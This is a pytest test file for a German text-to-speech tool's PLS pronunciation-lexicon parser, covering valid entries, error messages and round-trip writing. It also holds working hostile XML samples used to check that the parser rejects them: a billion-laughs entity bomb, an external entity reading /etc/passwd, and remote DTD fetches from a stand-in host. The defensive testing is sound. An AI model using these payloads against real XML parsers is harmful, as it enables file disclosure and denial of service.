"""PLS 1.0 parsing (app.lexicon.pls): valid files, invalid ones (one line with the line number),
hostile XML (refused before anything expands or is fetched), and writing back."""
from __future__ import annotations

import time

import pytest

from app.cli import main
from app.errors import LexiconError
from app.lexicon.model import Lexicon
from app.lexicon.pls import NS, parse_bytes, parse_file, to_bytes

HEAD = (f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<lexicon version="1.0" xmlns="{NS}" alphabet="x-espeak" xml:lang="de">\n')


def pls(body: str, head: str = HEAD) -> bytes:
    return (head + body + "\n</lexicon>\n").encode("utf-8")


def test_lexemes_with_several_graphemes_phoneme_alias_and_prefer():
    lex = parse_bytes(pls("""
  <!-- a comment -->
  <meta name="author" content="Redaktion"/>
  <lexeme>
    <grapheme>Homeoffice</grapheme><grapheme>Home-Office</grapheme>
    <grapheme>  Home
       Office </grapheme>
    <phoneme>h'oUm,OfIs</phoneme>
    <example>Sie ist im Homeoffice.</example>
  </lexeme>
  <lexeme><grapheme>WHO</grapheme><alias>Weltgesundheitsorganisation</alias></lexeme>
  <lexeme><grapheme>live</grapheme><phoneme>l'i:v@</phoneme><phoneme prefer="true">l'aIf</phoneme>
    <alias>leif</alias><phoneme alphabet="ipa">laɪf</phoneme></lexeme>
  <x:note xmlns:x="urn:example">ignored</x:note>"""), "t.pls")
    assert [e.graphemes for e in lex.entries] == [("Homeoffice", "Home-Office", "Home Office"), ("WHO",), ("live",)]
    office, who, live = lex.entries
    assert office.phoneme == "h'oUm,OfIs" and office.alias is None and office.line == 6 and office.source == "t.pls"
    assert who.phoneme is None and who.alias == "Weltgesundheitsorganisation"
    assert live.phoneme == "l'aIf" and live.alias == "leif" and live.others == (("ipa", "laɪf"),)
    assert lex.lookup("Home   Office") is office and lex.lookup("who") is None


def test_first_lexeme_wins_in_a_file_later_file_wins_across_files():
    first = parse_bytes(pls("<lexeme><grapheme>Team</grapheme><phoneme>t'i:m</phoneme></lexeme>"
                            "<lexeme><grapheme>Team</grapheme><phoneme>t'e:am</phoneme></lexeme>"), "a.pls")
    assert first.lookup("Team").phoneme == "t'i:m"
    second = parse_bytes(pls("<lexeme><grapheme>Team</grapheme><alias>Tiem</alias></lexeme>"), "b.pls")
    merged = Lexicon.merge([first, second])
    assert merged.lookup("Team").alias == "Tiem" and merged.sources == ["a.pls", "b.pls"]
    assert Lexicon.merge([second, first]).lookup("Team").phoneme == "t'i:m"


def test_ipa_only_lexicon_is_read_but_has_nothing_for_espeak():
    head = HEAD.replace('alphabet="x-espeak"', 'alphabet="ipa"')
    document = pls("<lexeme><grapheme>Meeting</grapheme><phoneme>ˈmiːtɪŋ</phoneme></lexeme>", head)
    entry = parse_bytes(document).entries[0]
    assert entry.phoneme is None and entry.others == (("ipa", "ˈmiːtɪŋ"),)
    assert entry.spoken_for("espeak") is None and entry.spoken_for("gtts") is None


@pytest.mark.parametrize(("document", "line", "words"), [
    (pls("<lexeme><grapheme>A</grapheme><phoneme>a</phoneme>"), 4, "not well-formed"),
    (pls("<lexeme>\n<phoneme>x</phoneme></lexeme>"), 3, "has no <grapheme>"),
    (pls("<lexeme><grapheme>Team</grapheme></lexeme>"), 3, "no <phoneme> and no <alias>"),
    (pls("<lexeme><grapheme></grapheme><alias>x</alias></lexeme>"), 3, "<grapheme> is empty"),
    (pls("<lexeme><grapheme>A</grapheme>\n\n<phoneme>lˈaɪf</phoneme></lexeme>"), 5, "not eSpeak phoneme code"),
    (pls("<lexeme><grapheme>A</grapheme><phoneme>[[a]]</phoneme></lexeme>"), 3, "not eSpeak phoneme code"),
    (pls("<lexeme><grapheme>A</grapheme><phonem>a</phonem></lexeme>"), 3, "unknown element <phonem>"),
    (pls("<lexem><grapheme>A</grapheme></lexem>"), 3, "unknown element <lexem>"),
    (pls("<lexeme><grapheme>A <b>B</b></grapheme><alias>x</alias></lexeme>"), 3, "holds markup"),
    (pls("", HEAD.replace('xml:lang="de"', 'xml:lang="en-US"')), 2, "xml:lang is 'en-US'"),
    (pls("", HEAD.replace(' xml:lang="de"', "")), 2, "xml:lang is missing"),
    (pls("", HEAD.replace('lexicon version="1.0"', 'lexicon version="2.0"')), 2, "version is '2.0'"),
    (pls("", HEAD.replace(' alphabet="x-espeak"', "")), 2, "alphabet attribute is missing"),
    (pls("", HEAD.replace(f' xmlns="{NS}"', "")), 2, "outside the PLS namespace"),
    (b'<?xml version="1.0"?>\n<speak/>', 2, "root element is <speak>"),
    (b"", None, "not well-formed"),
    (b"\xff\xfe\x00garbage", None, "not well-formed"),
])
def test_invalid_lexicon_is_one_line_with_the_line_number(document, line, words):
    with pytest.raises(LexiconError) as err:
        parse_bytes(document, "mein.pls")
    message = str(err.value)
    assert words in message and "\n" not in message
    assert message.startswith("lexicon mein.pls" + (f", line {line}:" if line else ""))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lexicon [
 <!ENTITY a "aaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="x-espeak" xml:lang="de">
<lexeme><grapheme>&i;</grapheme><alias>x</alias></lexeme></lexicon>"""
EXTERNAL_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE lexicon [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="x-espeak" xml:lang="de">
<lexeme><grapheme>&secret;</grapheme><alias>x</alias></lexeme></lexicon>"""
EXTERNAL_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE lexicon SYSTEM "http://192.0.2.1/evil.dtd">
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="x-espeak" xml:lang="de"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE lexicon [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="x-espeak" xml:lang="de"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_FILE, EXTERNAL_NETWORK, PARAMETER_ENTITY,
                                      BILLION_LAUGHS.decode().encode("utf-16")],
                         ids=["billion-laughs", "external-file", "external-dtd", "parameter-entity", "utf-16"])
def test_hostile_xml_is_refused_at_once(document):
    t0 = time.monotonic()
    with pytest.raises(LexiconError) as err:
        parse_bytes(document, "boese.pls")
    assert time.monotonic() - t0 < 1.0
    message = str(err.value)
    assert message.startswith("lexicon boese.pls") and "\n" not in message
    assert "DTD" in message or "entity" in message.lower()
    assert "root:" not in message  # nothing of /etc/passwd


def test_missing_file_and_folder_are_named(tmp_path):
    with pytest.raises(LexiconError, match="nope.pls not found"):
        parse_file(tmp_path / "nope.pls")
    with pytest.raises(LexiconError, match="is a folder"):
        parse_file(tmp_path)


def test_written_document_parses_back_to_the_same_entries():
    lex = parse_bytes(pls('<lexeme><grapheme>R&amp;D</grapheme><grapheme>R &amp; D</grapheme>'
                          "<phoneme>,A:r@nd'di:</phoneme><phoneme alphabet=\"ipa\">ɑːɹ ən diː</phoneme>"
                          '<alias>Ar and Di</alias></lexeme><lexeme><grapheme>&lt;3</grapheme><alias>Herz</alias>'
                          '</lexeme>'))
    again = parse_bytes(to_bytes(lex.entries))
    strip = [(e.graphemes, e.phoneme, e.alias, e.others) for e in lex.entries]
    assert [(e.graphemes, e.phoneme, e.alias, e.others) for e in again.entries] == strip
    with_ipa = parse_bytes(to_bytes(lex.entries, {",A:r@nd'di:": "ˌɑːɾəndˈdiː"}))
    assert with_ipa.entries[0].phoneme == ",A:r@nd'di:"
    assert with_ipa.entries[0].others[0] == ("ipa", "ˌɑːɾəndˈdiː")


def test_build_with_an_invalid_lexicon_stops_with_one_line_and_exit_2(tmp_path, capsys, monkeypatch):
    bad = tmp_path / "kaputt.pls"
    bad.write_bytes(pls("<lexeme>\n<grapheme>Team</grapheme>\n</lexeme>"))
    assert main(["build", "--lexicon", str(bad), "--out", str(tmp_path / "out"), "--quiet"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("vorleser: error: lexicon ") and "kaputt.pls, line 3:" in err and len(err.splitlines()) == 1
    assert not (tmp_path / "out").exists()
    monkeypatch.setenv("VORLESER_LEXICON", str(tmp_path / "fehlt.pls"))
    assert main(["build", "--out", str(tmp_path / "out"), "--quiet"]) == 2
    err = capsys.readouterr().err.strip()
    assert "fehlt.pls not found" in err and "VORLESER_LEXICON" in err and len(err.splitlines()) == 1
